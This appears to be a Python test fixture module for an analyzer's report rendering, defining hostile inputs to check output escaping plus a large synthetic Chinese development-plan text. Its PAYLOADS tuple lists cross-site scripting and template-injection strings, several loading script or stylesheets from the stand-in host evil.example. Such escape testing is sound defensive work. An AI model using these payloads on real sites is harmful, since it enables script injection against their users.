"""Documents for the tests of the report: hostile words in every field, and one that is large."""

from __future__ import annotations

from datetime import date
from decimal import Decimal

from analyzer.model import (
    Analysis,
    Block,
    Check,
    Document,
    Item,
    Keyword,
    Mention,
    Metadata,
    Period,
    Target,
    Task,
)

# each would set window.pwned, load something or break out of its place if it were not escaped
PAYLOADS = (
    "<script>window.pwned=1</script>",
    '"><img src=x onerror=window.pwned=1>',
    "'><svg onload=window.pwned=1>",
    "</script><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "</title></textarea><script>window.pwned=1</script>",
    "<!--<script>window.pwned=1</script>-->",
    "]]><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    '<a href="javascript:window.pwned=1" autofocus onfocus=window.pwned=1>点</a>',
    '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
    "{{ 7*7 }}{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "${window.pwned=1}`'\"",
    '<meta http-equiv=refresh content="0;url=data:text/html,evil">',
    "<base href=//evil.example/>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=window.pwned=1>",
    "<details open ontoggle=window.pwned=1>开</details>",
    "<input onfocus=window.pwned=1 autofocus>",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e",
    "<style>@import '//evil.example/x.css';*{background:url(//evil.example/x)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css><script src=//evil.example/x.js></script>",
    "\u2028window.pwned=1//\u2029\u202e",
    "constructor __proto__ toString",
)


def target(text: str, start: int, word: str, *, status: str = "target", section: str = "") -> Target:
    """A target that calls everything ``word`` and stands on the first character of it."""
    return Target(
        indicator=word,
        indicator_id="",
        value=Decimal(12),
        value_max=None,
        unit=word[:9],
        value_text=text[start : start + len(word)],
        comparator="ge",
        measure="level",
        direction="",
        status=status,
        tone="hard",
        period=Period(word, date(2027, 1, 1), date(2027, 12, 31)),
        binding="",
        scope=word,
        region_code="",
        section=section or word,
        sentence=word,
        start=start,
        end=start + len(word),
        rule=word,
    )


def hostile_analysis(word: str, doc_id: str = "敌意") -> Analysis:
    """A document in which every text is ``word``, in all tables."""
    text = f"一、{word}\n力争{word}达到{word}家。\n二、{word}\n{word}"
    start = text.index(f"{word}家")
    item = Item(
        marker="一、",
        style="han",
        level=1,
        ordinal="1",
        title=word,
        start=0,
        title_start=2,
        title_end=2 + len(word),
        own_end=start,
        end=len(text),
        parent=None,
        group=1,
    )
    metadata = Metadata(
        title=word, issuer=word, doc_number=word, doc_type=word, region=word, date=date(2026, 1, 1)
    )
    return Analysis(
        document=Document(
            doc_id,
            text,
            metadata,
            source_path=f"/tmp/{word}",
            source_format=word,
            encoding=word,
            sha256=word,
            warnings=(word,),
            blocks=(Block(0, len(text), word, 1),),
        ),
        outline=(item,),
        targets=(target(text, start, word), target(text, start, word, status=word)),
        tasks=(Task(item, None, word, word, word, (word,), (word,), date(2027, 1, 1), word, word),),
        keywords=(Keyword(word, 1.0, 3, word, word, word, True),),
        mentions=(Mention(word, word, word, start, start + 1),),
        checks=(Check(word, word, word, word, word, 0, len(text)), Check(word, word, word, "", "", 3, 3)),
    )


def large_text(parts: int = 10, tasks: int = 30, targets: int = 15) -> str:
    """A plan with ``parts * tasks`` items and ``parts * targets`` targets, about 60 kB."""
    numerals = "一二三四五六七八九十"
    lines = ["柏溪县国民经济和社会发展规划"]
    for part in range(parts):
        lines.append(f"{numerals[part]}、推进第{numerals[part]}类工程")
        for number in range(1, tasks + 1):
            goal = f"到2030年，第{number}类示范项目达到{part * 100 + number}个" if number <= targets else ""
            lines.append(
                f"{number}. 完善产业基础设施。统筹城乡融合发展，健全长效工作机制，支持企业开展技术改造和设备更新，"
                f"加强人才培养引进，推动公共服务向基层延伸。{goal}"
            )
    return "\n".join(lines)
